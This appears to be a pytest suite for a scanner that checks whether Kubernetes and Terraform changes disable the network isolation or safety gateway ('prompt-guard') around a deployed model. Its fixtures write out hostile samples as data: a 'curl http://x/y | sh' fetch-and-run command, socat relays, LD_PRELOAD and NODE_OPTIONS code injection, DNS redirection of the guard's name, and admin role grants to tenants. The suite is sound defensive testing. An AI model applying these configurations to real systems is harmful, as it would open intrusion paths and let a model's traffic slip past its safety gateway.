"""What switches a guard of the reference world off: settings of plug-ins, machines, names, kinds that nobody knows."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.harness import FIXTURES, run_scan

MODEL, SAFETY, CLUSTER = "k8s/model.yaml", "k8s/safety.yaml", "terraform/cluster.tf"
ON = '    enableNetworkPolicy = "true"'
ACCOUNT = "      serviceAccountName: model\n"
AS_GATEWAY = "      serviceAccountName: gateway\n"
MACHINES = '  instance_types  = ["p5.48xlarge"]'
STREAM = "            - --load-format"
GUARD = "      automountServiceAccountToken: false\n"


def made(kind: str, version: str, rest: str, name: str = "x", namespace: str = "") -> str:
    where = f", namespace: {namespace}" if namespace else ""
    return f"apiVersion: {version}\nkind: {kind}\nmetadata: {{name: {name}{where}}}\n{rest}\n"


def felix(spec: str, name: str = "default") -> str:
    return made("FelixConfiguration", "projectcalico.org/v3", f"spec: {spec}", name)


def judged(tmp_path: Path, added: str, *edits: tuple[str, str, str]) -> tuple[set[str], str]:
    """The commitments that do not hold, and what decides them."""
    world = tmp_path / "world"
    shutil.copytree(FIXTURES / "worlds" / "reference", world)
    if added:
        (world / "k8s" / "x.yaml").write_text(added)
    for file, old, new in edits:
        text = (world / file).read_text()
        assert old in text
        (world / file).write_text(text.replace(old, new, 1))
    report = run_scan(world)
    deciding = {name for one in report["findings"] for name in one["decided_by"]}
    failed = {one["id"] for one in report["commitments"] if one["verdict"] != "holds"}
    return failed, " ".join(sorted(deciding)) + " ".join(one["message"] for one in report["findings"])


def config(name: str, data: str) -> str:
    return made("ConfigMap", "v1", f"data: {data}", name, "kube-system")


def pod(text: str) -> tuple[str, str, str]:
    return (MODEL, ACCOUNT, f"{ACCOUNT}      {text}\n")


UP = "            - {name: UPSTREAM"
RUN = f"          env:\n{UP}"


def gateway(text: str) -> tuple[str, str, str]:
    """A field of the gateway's container."""
    return (SAFETY, RUN, f"          {text}\n{RUN}")


def variable(text: str) -> tuple[str, str, str]:
    return (SAFETY, UP, f"            - {{{text}}}\n{UP}")


ENDPOINT = (
    "spec: {podIsolation: [Ingress], policyRef: {name: only-the-gateway, namespace: inference},"
    " ingress: [{cidr: 0.0.0.0/0}]}"
)
IDENTITY = 'security-labels: {"k8s:app": gateway, "k8s:io.kubernetes.pod.namespace": safety}'
HOOK = (
    "webhooks: [{{name: a.b.c, clientConfig: {{service: {{name: assistant, namespace: {}}}}}, sideEffects: None, {}"
    'rules: [{{apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*/*"]}}], failurePolicy: Fail}}]'
)
OWN_SPACE = "namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: tenant-a}}, "
ANSWERS = made("Service", "v1", "spec: {selector: {app: assistant}, ports: [{port: 443}]}", "assistant", "tenant-a")


def hook(namespace: str, more: str = "") -> str:
    version = "admissionregistration.k8s.io/v1"
    return f"{ANSWERS}---\n{made('ValidatingWebhookConfiguration', version, HOOK.format(namespace, more))}"


def rancher(kind: str, role: str) -> str:
    rest = f"projectName: c:p-1\nroleTemplateName: {role}\ngroupPrincipalName: okta_group://tenant-a-developers"
    return made(kind, "management.cattle.io/v3", rest, namespace="p-1")


def members(name: str) -> str:
    return made("Group", "user.openshift.io/v1", "users: [mallory]", name)


OFF: dict[str, tuple[str, tuple[tuple[str, str, str], ...], str]] = {
    "chains appended": (felix("{chainInsertMode: Append}"), (), "FelixConfiguration/default: chainInsertMode"),
    "pods choose their address": (felix("{workloadSourceSpoofing: Any}"), (), "workloadSourceSpoofing"),
    "no interface of pods": (felix("{interfacePrefix: eth}"), (), "interfacePrefix"),
    "drops are accepted": (felix("{dropActionOverride: LogAndAccept}"), (), "dropActionOverride"),
    "one node alone": (felix("{allowIPIPPacketsFromWorkloads: true}", "node.n1"), (), "allowIPIPPackets"),
    "Calico beside another plug-in": (felix("{defaultEndpointToHostAction: Accept}"), (), "FelixConfiguration/default"),
    "Cilium on some nodes": (
        made("CiliumNodeConfig", "cilium.io/v2", "spec: {nodeSelector: {}, defaults: {enable-policy: never}}",
             namespace="kube-system"),
        (), "enable-policy",
    ),
    "Cilium only audits": (config("cilium-config", '{policy-audit-mode: "true"}'), (), "policy-audit-mode"),
    "the API is another's": (
        made("APIService", "apiregistration.k8s.io/v1", "spec: {group: networking.k8s.io, version: v1,"
             " service: {name: assistant, namespace: tenant-a}}", "v1.networking.k8s.io"),
        (), "APIService",
    ),
    "no agent": ("", ((CLUSTER, ON, f'{ON}\n    nodeAgent = {{ enabled = "false" }}'),), "nodeAgent.enabled"),
    "agents on some nodes": ("", ((CLUSTER, ON, f'{ON}\n    nodeSelector = {{ team = "a" }}'),), "nodeSelector"),
    "no such mode": (
        "", ((CLUSTER, ON, f'{ON}\n    env = {{ NETWORK_POLICY_ENFORCING_MODE = "off" }}'),),
        "NETWORK_POLICY_ENFORCING_MODE",
    ),
    "no agent, in YAML": (
        "",
        ((CLUSTER, f"  configuration_values = jsonencode({{\n{ON}\n  }})", "  configuration_values = <<-EOT\n"
          "    enableNetworkPolicy: 'true'\n    nodeAgent:\n      enabled: false\n  EOT"),),
        "nodeAgent.enabled",
    ),
    "Windows": ("", ((CLUSTER, MACHINES, f'{MACHINES}\n  ami_type = "WINDOWS_CORE_2022_x86_64"'),), "ami_type"),
    "a pod on Windows": ("", (pod("os: {name: windows}"),), "os.name"),
    "a node of Windows": ("", (pod("nodeSelector: {kubernetes.io/os: windows}"),), "kubernetes.io/os"),
    "a virtual node": (
        "", (pod("tolerations: [{key: virtual-kubelet.io/provider, operator: Exists}]"),), "virtual-kubelet",
    ),
    "a second network": (
        "",
        ((MODEL, "      labels: {app: claude-gov}\n    spec", "      labels: {app: claude-gov}\n"
          "      annotations: {k8s.v1.cni.cncf.io/networks: second}\n    spec"),),
        "k8s.v1.cni.cncf.io/networks",
    ),
    "a second network of Google": (
        "",
        ((MODEL, "      labels: {app: claude-gov}\n    spec", "      labels: {app: claude-gov}\n"
          "      annotations: {networking.gke.io/interfaces: '[{network: data}]'}\n    spec"),),
        "networking.gke.io/interfaces",
    ),
    "an endpoint by hand": (
        made("PolicyEndpoint", "networking.k8s.aws/v1alpha1", ENDPOINT, "only-the-gateway-abcde", "inference"),
        (), "PolicyEndpoint",
    ),
    "an identity by hand": (made("CiliumIdentity", "cilium.io/v2", IDENTITY, "4242"), (), "CiliumIdentity"),
    "an address by hand": (
        made("CiliumEndpoint", "cilium.io/v2", "status: {networking: {addressing: [{ipv4: 10.40.1.9}]}}",
             "gateway-x", "safety"),
        (), "CiliumEndpoint",
    ),
    "a kind that speaks of policies": (
        made("Tenant", "acme.example/v1", "spec: {networkPolicy: allow-all}", "t"), (), "Tenant",
    ),
    "a kind that speaks of rights": (
        made("Access", "acme.example/v1", "spec: {roleBindings: [{group: tenant-a-developers, role: admin}]}"),
        (), "Access",
    ),
    "a kind with objects inside": (
        made("Multi", "acme.example/v1", "spec: {some: [{apiVersion: v1, kind: Pod, metadata: {name: p}}]}"),
        (), "Multi",
    ),
    "a kind that names the namespace": (
        made("Space", "acme.example/v1", "spec: {namespaces: [inference], owner: tenant-a-developers}"), (), "Space",
    ),
    "a kind that joins two namespaces": (
        made("HierarchyConfiguration", "hnc.x-k8s.io/v1alpha2", "spec: {parent: tenant-a}", "hierarchy", "safety"),
        (), "HierarchyConfiguration",
    ),
    "the cluster's names": (
        config("coredns-custom", '{x.server: "prompt-guard.safety.svc.cluster.local { hosts { 10.40.1.9 p } }"}'),
        (), "coredns-custom",
    ),
    "names rewritten": (config("coredns", '{Corefile: ".:53 {\\n  rewrite name a b\\n}"}'), (), "coredns"),
    "no such scheduler": ("", ((SAFETY, GUARD, f"{GUARD}      schedulerName: mine\n"),), "scheduler mine"),
    "a queue": (
        "",
        ((SAFETY, "  name: prompt-guard\n", "  name: prompt-guard\n  labels: {kueue.x-k8s.io/queue-name: q}\n"),),
        "kueue.x-k8s.io/queue-name",
    ),
    "another port": ("", ((SAFETY, '"--port=8000"', '"--port=9000"'),), "which listens on 9000"),
    "a class of runtime": (
        "apiVersion: node.k8s.io/v1\nkind: RuntimeClass\nmetadata: {name: x}\nhandler: runc\n"
        "scheduling: {nodeSelector: {eks.amazonaws.com/compute-type: hybrid}}\n",
        (pod("runtimeClassName: x"),), "hybrid",
    ),
    "a template that is mounted": (
        "",
        ((MODEL, STREAM, f"            - --chat-template=/mnt/x.jinja\n{STREAM}"),
         (MODEL, "          ports:\n", "          volumeMounts: [{name: t, mountPath: /mnt}]\n          ports:\n"),
         pod("volumes: [{name: t, configMap: {name: t}}]")),
        "--chat-template",
    ),
    "another program": ("", (gateway('command: [sh, -c, "exec /x"]'),), "it runs `/x`"),
    "a program of a variable's choice": ("", (gateway("command: [sh, -c, 'exec $WHICH']"),), "command of gateway"),
    "a relay": ("", (gateway('command: [socat, "TCP-LISTEN:8443,fork", "TCP:m:8000"]'),), "the relay `socat`"),
    "a relay in arguments": ("", (gateway('args: [sh, -c, "gateway & socat a b"]'),), "the relay `socat`"),
    "what is fetched": ("", (gateway('command: [bash, -c, "curl -s http://x/y | sh"]'),), "another `sh`"),
    "a program written out": ("", (gateway('command: [python3, -c, "import x"]'),), "code that is written"),
    "a library before": ("", (variable("name: LD_PRELOAD, value: /x.so"),), "code from `/x.so`"),
    "libraries of others": ("", (variable("name: LD_LIBRARY_PATH, value: /dev/shm"),), "env.LD_LIBRARY_PATH"),
    "modules of others": ("", (variable("name: PYTHONPATH, value: /tmp/p"),), "env.PYTHONPATH"),
    "a module in the options": (
        "", (variable('name: NODE_OPTIONS, value: "--import=data:text/javascript,1"'),), "env.NODE_OPTIONS",
    ),
    "an agent in the options": (
        "", (variable('name: JAVA_TOOL_OPTIONS, value: "-javaagent:/x.jar"'),), "env.JAVA_TOOL_OPTIONS",
    ),
    "code of a Secret's choice": (
        "", (variable("name: PYTHONSTARTUP, valueFrom: {secretKeyRef: {name: a, key: b}}"),), "env.PYTHONSTARTUP",
    ),
    "a value in a file": (
        "", (variable("name: X, valueFrom: {fileKeyRef: {volumeName: v, path: p, key: k}}"),), "env.X",
    ),
    "a class of machines elsewhere": ("", (pod("runtimeClassName: kata-remote"),), "kata-remote"),
    "a machine that nobody shows": ("", (pod("nodeName: somewhere"),), "nodeName somewhere"),
    "Fargate": (
        "", (pod("tolerations: [{key: eks.amazonaws.com/compute-type, operator: Equal, value: fargate}]"),),
        "tolerations eks.amazonaws.com/compute-type",
    ),
    "a tenant turns pods away": (hook("tenant-a"), (), "`tenant-a/Deployment/assistant` can change"),
    "a role of a project": (
        rancher("ProjectRoleTemplateBinding", "project-owner"), (), "RoleTemplate/project-owner",
    ),
    "a role of a cluster": (rancher("ClusterRoleTemplateBinding", "cluster-owner"), (), "RoleTemplate/cluster-owner"),
    "a role of Rancher itself": (
        made("GlobalRoleBinding", "management.cattle.io/v3", "globalRoleName: admin\nuserName: u-1"), (),
        "GlobalRole/admin",
    ),
    "a role that is called as one that reads": (
        rancher("ProjectRoleTemplateBinding", "read-only")
        + made("RoleTemplate", "management.cattle.io/v3", 'rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]',
               "read-only").replace("apiVersion", "---\napiVersion", 1),
        (), "ProjectRoleTemplateBinding/x: projectName",
    ),
    "a class of the gateway that tenants may change": (
        made("ClusterRole", "rbac.authorization.k8s.io/v1",
             "rules: [{apiGroups: [node.k8s.io], resources: [runtimeclasses], verbs: [patch]}]")
        + made("ClusterRoleBinding", "rbac.authorization.k8s.io/v1",
               "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: x}\n"
               "subjects: [{kind: ServiceAccount, name: assistant, namespace: tenant-a}]")
        .replace("apiVersion", "---\napiVersion", 1)
        + made("RuntimeClass", "node.k8s.io/v1", "handler: runc", "nvidia").replace("apiV", "---\napiV", 1),
        ((SAFETY, AS_GATEWAY, f"{AS_GATEWAY}      runtimeClassName: nvidia\n"),), "ClusterRole/x: change-runtime-class",
    ),
    "a class of the model that tenants may change": (
        made("ClusterRole", "rbac.authorization.k8s.io/v1",
             "rules: [{apiGroups: [node.k8s.io], resources: [runtimeclasses], verbs: [patch]}]")
        + made("ClusterRoleBinding", "rbac.authorization.k8s.io/v1",
               "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: x}\n"
               "subjects: [{kind: ServiceAccount, name: assistant, namespace: tenant-a}]")
        .replace("apiVersion", "---\napiVersion", 1)
        + made("RuntimeClass", "node.k8s.io/v1", "handler: runc", "nvidia").replace("apiV", "---\napiV", 1),
        (pod("runtimeClassName: nvidia"),), "ClusterRole/x: change-runtime-class",
    ),
    "a member of the operators": (members("safety-ops"), (), "Group/safety-ops: users"),
    "templates of callers": (
        "", ((MODEL, STREAM, f"            - --trust-request-chat-template\n{STREAM}"),), "--trust-request",
    ),
}  # fmt: skip
STOCK = """\
apiVersion: v1
kind: ConfigMap
metadata: {name: coredns, namespace: kube-system}
data:
  Corefile: |
    .:53 {
        errors
        health {
            lameduck 5s
        }
        kubernetes cluster.local in-addr.arpa ip6.arpa {
          pods insecure
          fallthrough in-addr.arpa ip6.arpa
        }
        # hosts { 10.0.0.1 a }
        forward . /etc/resolv.conf
        cache 30
    }
"""
WINDOWS_BESIDE = f"""{MACHINES}
}}

resource "aws_eks_node_group" "win" {{
  cluster_name  = aws_eks_cluster.main.name
  node_role_arn = aws_iam_role.node.arn
  subnet_ids    = module.network.private_subnet_ids
  ami_type      = "WINDOWS_CORE_2022_x86_64"
"""
NODE = """\
apiVersion: v1
kind: Node
metadata:
  name: n1
  labels: {topology.kubernetes.io/region: us-gov-west-1, topology.kubernetes.io/zone: us-gov-west-1a}
spec: {providerID: "aws:///us-gov-west-1a/i-0123456789abcdef0"}
"""
ON_STILL: dict[str, tuple[str, tuple[tuple[str, str, str], ...]]] = {
    "strict": ("", ((CLUSTER, ON, f'{ON}\n    env = {{ NETWORK_POLICY_ENFORCING_MODE = "strict" }}'),)),
    "strict, in YAML": (
        "",
        ((CLUSTER, f"  configuration_values = jsonencode({{\n{ON}\n  }})", "  configuration_values = <<-EOT\n"
          "    enableNetworkPolicy: 'true'\n    env:\n      NETWORK_POLICY_ENFORCING_MODE: strict\n  EOT"),),
    ),
    "Windows beside": ("", ((CLUSTER, MACHINES, WINDOWS_BESIDE),)),
    "Linux": ("", (pod("nodeSelector: {kubernetes.io/os: linux}"),)),
    "machines of a pool": ("", (pod("tolerations: [{key: nvidia.com/gpu, operator: Exists}]"),)),
    "the scheduler's own name": ("", ((SAFETY, GUARD, f"{GUARD}      schedulerName: default-scheduler\n"),)),
    "a runtime": (
        "apiVersion: node.k8s.io/v1\nkind: RuntimeClass\nmetadata: {name: x}\nhandler: nvidia\n",
        (pod("runtimeClassName: x"),),
    ),
    "a kind of no consequence": (made("Dashboard", "acme.example/v1", "spec: {title: Models, rows: [{panel: p}]}"), ()),
    "one in the namespace": (
        made("Certificate", "cert-manager.io/v1", "spec: {secretName: gw-tls, issuerRef: {name: ca, kind: Issuer}}",
             namespace="safety"),
        (),
    ),
    "the image's own program": ("", (gateway("command: [/usr/local/bin/gateway, --port=8443]"),)),
    "a program at the root": ("", (gateway("command: [/gateway, serve]"),)),
    "arguments of its own": ("", (gateway("args: [--port=8443, --config=/etc/gateway.yaml]"),)),
    "a shell that starts it": (
        "", (gateway('command: [sh, -c, "until curl -sf http://x/health; do sleep 1; done; exec gateway 2>&1"]'),),
    ),
    "a script of its own": ("", (gateway('command: [sh, -c, "exec /entrypoint.sh --port 8443"]'),)),
    "a module of its own": ("", (gateway("command: [python3, -m, gateway.main]"),)),
    "an allocator": ("", (variable("name: LD_PRELOAD, value: /usr/lib/libjemalloc.so.2"),)),
    "its own modules": ("", (variable("name: PYTHONPATH, value: /app"),)),
    "sizes": (
        "",
        (variable("name: NODE_OPTIONS, value: --max-old-space-size=4096"),
         variable('name: JAVA_TOOL_OPTIONS, value: "-Xmx2g -Dlog=/log"')),
    ),
    "a class of machines at hand": ("", (pod("runtimeClassName: nvidia"),)),
    "a machine of the cluster": (NODE, (pod("nodeName: n1"),)),
    "another compute type": (
        "", (pod("tolerations: [{key: eks.amazonaws.com/compute-type, operator: Equal, value: auto}]"),),
    ),
    "a tenant turns its own pods away": (hook("tenant-a", OWN_SPACE), ()),
    "a platform turns pods away": (hook("policies"), ()),
    "a role that reads": (rancher("ProjectRoleTemplateBinding", "read-only"), ()),
    "a user of Rancher": (
        made("GlobalRoleBinding", "management.cattle.io/v3", "globalRoleName: user-base\nuserName: u-1"), (),
    ),
    "a member of others": (members("others"), ()),
    "the server of names as it comes": (STOCK, ()),
    "a template of the image": (
        "", ((MODEL, STREAM, f"            - --chat-template=/vllm-workspace/examples/tool.jinja\n{STREAM}"),),
    ),
    "settings of Cilium": (config("cilium-config", '{enable-policy: default, policy-audit-mode: "false"}'), ()),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(OFF))
def test_what_switches_a_guard_off_is_named(tmp_path: Path, name: str) -> None:
    added, edits, said = OFF[name]
    failed, words = judged(tmp_path, added, *edits)
    assert failed
    assert said in words


@pytest.mark.parametrize("name", sorted(ON_STILL))
def test_what_switches_nothing_off_is_not(tmp_path: Path, name: str) -> None:
    added, edits = ON_STILL[name]
    assert judged(tmp_path, added, *edits) == (set(), "")
